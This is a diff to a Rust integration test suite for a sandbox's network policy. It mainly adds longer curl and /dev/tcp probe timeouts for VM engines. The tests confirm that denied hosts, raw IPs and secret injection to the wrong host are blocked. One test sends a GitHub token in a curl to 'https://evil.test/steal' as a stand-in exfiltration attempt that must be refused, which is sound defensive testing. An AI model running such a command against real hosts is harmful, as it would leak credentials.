@@ -36,9 +36,26 @@ fn world() -> &'static (FakeInternet, Daemon) {
 }
 
 /// A shell line that connects to host:port (bounded) and prints the first line it reads, or
-/// CONNECTED when the server says nothing.
+/// CONNECTED when the server says nothing. Probes that must fail use it as is: the rules
+/// drop, so each waits out its limit.
 fn tcp_hello(host: &str, port: u16) -> String {
-    format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo CONNECTED && timeout 2 head -1 <&3'")
+    tcp_hello_within(3, host, port)
+}
+
+/// `tcp_hello` with a limit of `secs` for the whole probe: a control that must succeed
+/// from a VM (slow under TCG) is given `control_limit(engine)`.
+fn tcp_hello_within(secs: u32, host: &str, port: u16) -> String {
+    format!(
+        "timeout {secs} bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo CONNECTED && timeout 2 head -1 <&3'"
+    )
+}
+
+/// How long a probe that must succeed may take from a sandbox on `engine`.
+fn control_limit(engine: Option<burrow_api::EngineKind>) -> u32 {
+    match engine {
+        Some(burrow_api::EngineKind::Vm) => 30,
+        _ => 5,
+    }
 }
 
 async fn set_policy(c: &Client, name: &str, policy: Value) -> Result<Value, ClientError> {
@@ -52,13 +69,22 @@ async fn set_policy(c: &Client, name: &str, policy: Value) -> Result<Value, Clie
 
 /// curl in the sandbox; `direct` bypasses the explicit proxy (the transparent path). It
 /// trusts `/tmp/trust.pem` (see [`trust_test_ca`]).
-fn curl(url: &str, direct: bool, extra: &str) -> String {
+/// A curl command line for a probe from a sandbox on `engine`. curl's connect timeout covers
+/// the TLS handshake, which a guest under QEMU's TCG on a loaded 2-core machine may take
+/// seconds to finish (a CI run saw "SSL connection timeout" at 3 s): a VM gets longer limits.
+fn curl(engine: Option<burrow_api::EngineKind>, url: &str, direct: bool, extra: &str) -> String {
     let unset = if direct {
         "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy "
     } else {
         ""
     };
-    format!("{unset}curl -sS --cacert /tmp/trust.pem --connect-timeout 3 --max-time 10 {extra} {url}")
+    let (connect, max) = match engine {
+        Some(burrow_api::EngineKind::Vm) => (20, 60),
+        _ => (3, 10),
+    };
+    format!(
+        "{unset}curl -sS --cacert /tmp/trust.pem --connect-timeout {connect} --max-time {max} {extra} {url}"
+    )
 }
 
 /// `/tmp/trust.pem` in the sandbox: its own bundle (which has the interception CA) plus the
@@ -113,14 +139,15 @@ async fn policy_mode_allows_listed_domains_only_on(engine: Option<burrow_api::En
 
     for direct in [false, true] {
         // HTTPS to an allowed host works, through the explicit proxy and transparently.
-        let (code, out, err) = sh_parts(&c, &name, &curl("https://pypi.test/simple/", direct, "")).await;
+        let (code, out, err) =
+            sh_parts(&c, &name, &curl(engine, "https://pypi.test/simple/", direct, "")).await;
         assert_eq!(code, 0, "direct={direct}: {out}{err}");
         let seen: Value = serde_json::from_str(&out).unwrap();
         assert_eq!(seen["host"], "pypi.test");
         assert_eq!(seen["path"], "/simple/");
         // A denied host is not reached.
         let before = inet.requests().len();
-        let (code, _, _) = sh_parts(&c, &name, &curl("https://evil.test/", direct, "")).await;
+        let (code, _, _) = sh_parts(&c, &name, &curl(engine, "https://evil.test/", direct, "")).await;
         assert_ne!(code, 0, "direct={direct}: a denied domain must fail");
         let after = inet.requests();
         assert_eq!(
@@ -133,7 +160,7 @@ async fn policy_mode_allows_listed_domains_only_on(engine: Option<burrow_api::En
     // A raw IP is dropped, even one an allowed name resolves to from elsewhere.
     let before = inet.requests().len();
     let other = inet.addr("other.test");
-    let (code, out, _) = sh_parts(&c, &name, &curl(&format!("http://{other}/"), true, "-f")).await;
+    let (code, out, _) = sh_parts(&c, &name, &curl(engine, &format!("http://{other}/"), true, "-f")).await;
     assert_ne!(code, 0, "{out}");
     let (_, out, _) = sh_parts(&c, &name, &tcp_hello(&other.to_string(), 7000)).await;
     assert!(!out.contains("HELLO"), "a raw IP was reachable: {out}");
@@ -146,7 +173,7 @@ async fn policy_mode_allows_listed_domains_only_on(engine: Option<burrow_api::En
         &name,
         &format!(
             "getent hosts pypi.test >/dev/null; {}",
-            tcp_hello(&allowed.to_string(), 7000)
+            tcp_hello_within(control_limit(engine), &allowed.to_string(), 7000)
         ),
     )
     .await;
@@ -167,10 +194,10 @@ async fn policy_changes_apply_to_a_running_sandbox_at_once() {
     trust_test_ca(&c, &name, inet).await;
     let url = "https://other.test/x";
     set_policy(&c, &name, json!({"mode": "none"})).await.unwrap();
-    let (code, _, _) = sh_parts(&c, &name, &curl(url, true, "")).await;
+    let (code, _, _) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
     assert_ne!(code, 0, "mode none must block");
     set_policy(&c, &name, json!({"mode": "open"})).await.unwrap();
-    let (code, out, err) = sh_parts(&c, &name, &curl(url, true, "")).await;
+    let (code, out, err) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
     assert_eq!(code, 0, "open must allow: {out}{err}");
     set_policy(
         &c,
@@ -179,7 +206,7 @@ async fn policy_changes_apply_to_a_running_sandbox_at_once() {
     )
     .await
     .unwrap();
-    let (code, _, _) = sh_parts(&c, &name, &curl(url, true, "")).await;
+    let (code, _, _) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
     assert_ne!(code, 0, "policy without other.test must block");
     let got: Value = c
         .get_json(&format!("/v1/sandboxes/{name}/policy/network"))
@@ -374,6 +401,7 @@ async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on
     for direct in [false, true] {
         let before = inet.requests().len();
         let cmd = curl(
+            engine,
             "https://api.github.test/user",
             direct,
             "-H \"Authorization: token $GITHUB_TOKEN\"",
@@ -397,6 +425,7 @@ async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on
         // The same placeholder to a host the secret is not for: refused, nothing sent.
         let before = inet.requests().len();
         let cmd = curl(
+            engine,
             "https://evil.test/steal",
             direct,
             "-H \"Authorization: token $GITHUB_TOKEN\" -w '%{http_code}'",
@@ -415,6 +444,7 @@ async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on
     for (tok, method, caveat) in [(&expired, "GET", "expires"), (&get_only, "POST", "methods")] {
         let before = inet.requests().len();
         let cmd = curl(
+            engine,
             "https://api.github.test/user",
             false,
             &format!("-X {method} -H 'Authorization: token {tok}' -w ' %{{http_code}}'"),
